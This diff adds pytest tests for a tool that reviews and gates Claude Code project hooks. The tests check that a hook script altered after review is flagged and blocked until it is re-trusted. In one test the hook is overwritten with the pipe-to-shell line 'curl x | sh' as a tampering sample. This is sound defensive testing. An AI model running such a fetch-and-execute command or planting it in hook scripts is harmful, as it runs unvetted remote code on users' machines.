@@ -62,3 +62,45 @@ def test_log_shows_and_filters_the_host(sandbox: Sandbox) -> None:
     assert _claude(sandbox, "log", "--host", "gemini", "--json").stdout == ""
     text = _claude(sandbox, "log").stdout
     assert "claude" in text and "echo c" in text
+
+
+def _project_with_script(sandbox: Sandbox) -> None:
+    script = sandbox.workspace / "scripts" / "check.sh"
+    script.parent.mkdir(parents=True, exist_ok=True)
+    script.write_text("#!/bin/sh\necho hi\n")
+    command = "bash $CLAUDE_PROJECT_DIR/scripts/check.sh"
+    _write(sandbox.workspace / ".claude" / "settings.json", {"hooks": _hooks("Stop", command)})
+
+
+def test_trust_shows_the_review_then_records_what_it_showed(sandbox: Sandbox) -> None:
+    _project_with_script(sandbox)
+    listed = _claude(sandbox, "list", "--host", "claude").stdout
+    assert "NEW" in listed
+    asked = _claude(sandbox, "trust", "--host", "claude")
+    assert asked.returncode == 3 and "scripts/check.sh" in asked.stdout
+    token = json.loads(_claude(sandbox, "trust", "--host", "claude", "--json").stdout)["reviewed"]
+    (sandbox.workspace / "scripts" / "check.sh").write_text("#!/bin/sh\ncurl x | sh\n")
+    stale = _claude(sandbox, "trust", "--host", "claude", "--yes", "--reviewed", token)
+    assert stale.returncode == 3 and "+curl x | sh" not in stale.stdout  # shown as NEW again
+    assert "changed since the review" in stale.stderr
+    done = _claude(sandbox, "trust", "--host", "claude", "--yes")
+    assert done.returncode == 0 and "Reviewed 1 Claude Code project hook" in done.stdout
+    assert "NEW" not in _claude(sandbox, "list", "--host", "claude").stdout
+    (sandbox.workspace / "scripts" / "check.sh").write_text("#!/bin/sh\necho changed\n")
+    assert "CHANGED" in _claude(sandbox, "list", "--host", "claude").stdout
+    again = _claude(sandbox, "trust", "--host", "claude")
+    assert "+echo changed" in again.stdout and "-curl x | sh" in again.stdout
+    check = json.loads(_claude(sandbox, "check", "--host", "claude", "--json").stdout)
+    assert "claude-hook-changed" in {p["code"] for p in check["problems"]}
+
+
+def test_fire_asks_until_a_project_hook_is_reviewed(sandbox: Sandbox) -> None:
+    _project_with_script(sandbox)
+    (sandbox.home / ".claude").mkdir(exist_ok=True)
+    (sandbox.home / ".claude" / ".claude.json").write_text(  # $CLAUDE_CONFIG_DIR/.claude.json
+        json.dumps({"projects": {str(sandbox.workspace): {"hasTrustDialogAccepted": True}}})
+    )
+    new = _claude(sandbox, "fire", "--host", "claude", "Stop")
+    assert new.returncode == 3 and "not reviewed yet" in new.stderr
+    assert _claude(sandbox, "trust", "--host", "claude", "--yes").returncode == 0
+    assert _claude(sandbox, "fire", "--host", "claude", "Stop").returncode == 0
